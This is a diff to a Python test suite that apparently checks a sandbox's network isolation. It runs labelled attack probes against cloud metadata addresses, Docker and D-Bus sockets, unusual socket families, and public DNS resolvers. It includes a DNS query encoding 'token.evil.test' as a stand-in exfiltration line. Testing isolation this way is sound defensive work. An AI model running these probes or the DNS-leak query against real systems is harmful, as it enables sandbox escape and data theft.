@@ -6,7 +6,7 @@ import pytest
 
 import arena
 import cloche
-from arena import OTHER, SAME, Attack, define
+from arena import ANY, OTHER, SAME, Attack, define
 
 pytestmark = [pytest.mark.needs("native"), pytest.mark.needs("root"), pytest.mark.needs("python")]
 
@@ -20,6 +20,10 @@ def go(family, address, kind=socket.SOCK_STREAM, proto=0):
             return 'token' if b'canary' in s.recv(100) else 'connected'
     finally:
         s.close()
+"""
+ROUTE = """
+def route(family, address):  # a look-up in the routing table: connect() of a datagram socket sends nothing
+    socket.socket(family, socket.SOCK_DGRAM).connect(address)
 """
 FAMILIES = TRY + """
 opened, answers = [], {}
@@ -53,21 +57,25 @@ fact('inet pair', lambda: sc(53, 2, 1, 0, pair))
 """
 
 ATTACKS = [
-    Attack("NE-01", "no_route", TRY + """
-import subprocess
-for a in ('192.0.2.1', '198.51.100.1', '10.0.0.1', '169.254.169.254', '224.0.0.1', '255.255.255.255'):
-    fact(a, lambda: go(socket.AF_INET, (a, 80)))
+    Attack("NE-01", "no_route", ROUTE + """
+for a in ('192.0.2.1', '198.51.100.1', '10.0.0.1', '169.254.169.254', '224.0.0.1'):
+    fact(a, lambda: route(socket.AF_INET, (a, 80)))
 for a in ('2001:db8::1', 'fd00:ec2::254', '::ffff:192.0.2.1'):
-    fact(a, lambda: go(socket.AF_INET6, (a, 80)))
-value('link-local', lambda: answer(lambda: go(socket.AF_INET6, ('fe80::1', 80, 0, 0))))
+    fact(a, lambda: route(socket.AF_INET6, (a, 80)))
+value('link-local', lambda: answer(lambda: route(socket.AF_INET6, ('fe80::1', 80, 0, 0))))
 value('interfaces', lambda: sorted(l.split(':')[0].strip() for l in open('/proc/self/net/dev') if ':' in l))
 value('routes', lambda: sum(1 for _ in open('/proc/self/net/route')) - 1)
 s = socket.socket()
 s.bind(('127.0.0.1', 0)); s.listen()
 fact('own loopback', lambda: socket.create_connection(s.getsockname(), 2).close())
-""", {**{a: ("ENETUNREACH", SAME) for a in ("192.0.2.1", "198.51.100.1", "10.0.0.1", "169.254.169.254", "224.0.0.1",
-                                             "255.255.255.255", "2001:db8::1", "fd00:ec2::254")}, "::ffff:192.0.2.1": ("ENETUNREACH", SAME),
-      "link-local": ("EINVAL", SAME), "interfaces": ("['lo']", OTHER), "routes": ("0", OTHER), "own loopback": ("ok", SAME)}, "host"),
+t = socket.socket()
+def tcp():
+    t.settimeout(2)
+    t.connect(('127.0.0.1', 7777))
+fact('host loopback', tcp)
+""", {**{a: ("ENETUNREACH", ANY) for a in ("192.0.2.1", "198.51.100.1", "10.0.0.1", "169.254.169.254", "224.0.0.1", "2001:db8::1",
+                                            "fd00:ec2::254", "::ffff:192.0.2.1")}, "link-local": ("EINVAL", SAME),
+      "interfaces": ("['lo']", ANY), "routes": ("0", ANY), "own loopback": ("ok", SAME), "host loopback": ("ECONNREFUSED", "ok")}, "host"),
     Attack("NE-04", "abstract_socket", TRY + """
 fact('canary', lambda: go(socket.AF_UNIX, '\\0canary'))
 value('listed', lambda: sum('@' in l for l in open('/proc/self/net/unix')))
@@ -82,25 +90,23 @@ for d, folders, files in os.walk('/'):
         continue
     found += [d + '/' + f for f in files if stat.S_ISSOCK(os.lstat(d + '/' + f).st_mode)]
 value('sockets in the tree', lambda: found)
-""", {"/run/canary.sock": ("ENOENT", "token"), "/run/cloche/cloche.sock": ("ENOENT", SAME), "/var/run/docker.sock": ("ENOENT", SAME),
-      "/run/systemd/private": ("ENOENT", SAME), "/run/dbus/system_bus_socket": ("ENOENT", SAME), "sockets in the tree": ("[]", OTHER)}, "host"),
-    Attack("NE-03", "metadata_and_the_host", TRY + """
+""", {"/run/canary.sock": ("ENOENT", "token"), "/run/cloche/cloche.sock": ("ENOENT", ANY), "/var/run/docker.sock": ("ENOENT", ANY),
+      "/run/systemd/private": ("ENOENT", ANY), "/run/dbus/system_bus_socket": ("ENOENT", ANY), "sockets in the tree": ("[]", ANY)}, "host"),
+    Attack("NE-03", "metadata_and_the_host", TRY + ROUTE + """
 fact('canary', lambda: go(socket.AF_INET, ('127.0.0.1', 7777)))
 fact('canary by any', lambda: go(socket.AF_INET, ('0.0.0.0', 7777)))
 fact('canary by mapped', lambda: go(socket.AF_INET6, ('::ffff:127.0.0.1', 7777)))
 for a in ('169.254.169.254', '100.100.100.200', '168.63.129.16'):
-    fact(a, lambda: go(socket.AF_INET, (a, 80)))
-fact('by name', lambda: socket.getaddrinfo('metadata.google.internal', 80))
+    fact(a, lambda: route(socket.AF_INET, (a, 80)))
 """, {"canary": ("ECONNREFUSED", "token"), "canary by any": ("ECONNREFUSED", "token"), "canary by mapped": ("ECONNREFUSED", "token"),
-      "169.254.169.254": ("ENETUNREACH", OTHER), "100.100.100.200": ("ENETUNREACH", OTHER), "168.63.129.16": ("ENETUNREACH", OTHER),
-      "by name": (None, SAME)}, "host"),
+      "169.254.169.254": ("ENETUNREACH", ANY), "100.100.100.200": ("ENETUNREACH", ANY), "168.63.129.16": ("ENETUNREACH", ANY)}, "host"),
     Attack("NE-07", "odd_families", FAMILIES, {
         "families": ("[1, 2, 10]", OTHER), "kinds": ("[1, 2]", OTHER), "answers elsewhere": ("['EAFNOSUPPORT']", OTHER), "netlink": ("0", OTHER),
-        "vsock": ("EAFNOSUPPORT", SAME), "alg": ("EAFNOSUPPORT", SAME), "packet": ("EAFNOSUPPORT", OTHER), "raw": ("ESOCKTNOSUPPORT", OTHER),
+        "vsock": ("EAFNOSUPPORT", ANY), "alg": ("EAFNOSUPPORT", ANY), "packet": ("EAFNOSUPPORT", OTHER), "raw": ("ESOCKTNOSUPPORT", OTHER),
         "raw6": ("ESOCKTNOSUPPORT", OTHER), "ping": ("EPROTONOSUPPORT", OTHER), "ping6": ("EPROTONOSUPPORT", OTHER),
-        "sctp": ("EPROTONOSUPPORT", SAME), "mptcp": ("EPROTONOSUPPORT", OTHER), "udplite": ("EPROTONOSUPPORT", OTHER),
-        "smc": ("EAFNOSUPPORT", SAME), "xdp": ("EAFNOSUPPORT", OTHER), "rxrpc": ("EAFNOSUPPORT", SAME), "key": ("EAFNOSUPPORT", SAME),
-        "high bits": ("EAFNOSUPPORT", SAME), "tipc pair": ("EAFNOSUPPORT", SAME), "inet pair": ("EOPNOTSUPP", SAME)}, "off:seccomp"),
+        "sctp": ("EPROTONOSUPPORT", ANY), "mptcp": ("EPROTONOSUPPORT", OTHER), "udplite": ("EPROTONOSUPPORT", OTHER),
+        "smc": ("EAFNOSUPPORT", ANY), "xdp": ("EAFNOSUPPORT", OTHER), "rxrpc": ("EAFNOSUPPORT", ANY), "key": ("EAFNOSUPPORT", ANY),
+        "high bits": ("EAFNOSUPPORT", ANY), "tipc pair": ("EAFNOSUPPORT", ANY), "inet pair": ("EOPNOTSUPP", SAME)}, "off:seccomp"),
     Attack("NE-14", "new_interfaces", TRY + """
 import fcntl
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -125,8 +131,17 @@ def test_NE_01_namespace_control():
     assert arena.facts(arena.inside(code, layers_off="net").out.decode()) == {"canary": "token"}
 
 
-DNS = arena.PRELUDE + TRY + """
+QUERY = arena.PRELUDE + TRY + """
 query = b'\\xab\\xcd\\x01\\x00\\x00\\x01' + bytes(6) + b'\\x05token\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01'
+def local():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    s.connect(('127.0.0.1', 53))
+    s.send(query)
+    s.recv(100)
+fact('local resolver', local)
+"""
+DNS = QUERY + """
 for a in ('8.8.8.8', '1.1.1.1', '192.0.2.53'):
     def ask():
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -136,13 +151,6 @@ for a in ('8.8.8.8', '1.1.1.1', '192.0.2.53'):
     fact('udp ' + a, ask)
     fact('tcp ' + a, lambda: go(socket.AF_INET, (a, 53)))
     fact('https ' + a, lambda: go(socket.AF_INET, (a, 443)))
-def local():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.settimeout(1)
-    s.connect(('127.0.0.1', 53))
-    s.send(query)
-    s.recv(100)
-fact('local resolver', local)
 value('servers', lambda: sum(l.startswith('nameserver') for l in open('/etc/resolv.conf')))
 t = time.monotonic()
 try:
@@ -181,7 +189,7 @@ def test_NE_02_dns_control():
         s.sendto(data, who)
     t = threading.Thread(target=serve)
     t.start()
-    r = arena.inside(DNS, layers_off="net")
+    r = arena.inside(QUERY, layers_off="net")
     t.join()
     s.close()
     assert asked and arena.facts(r.out.decode())["local resolver"] == "ok", r
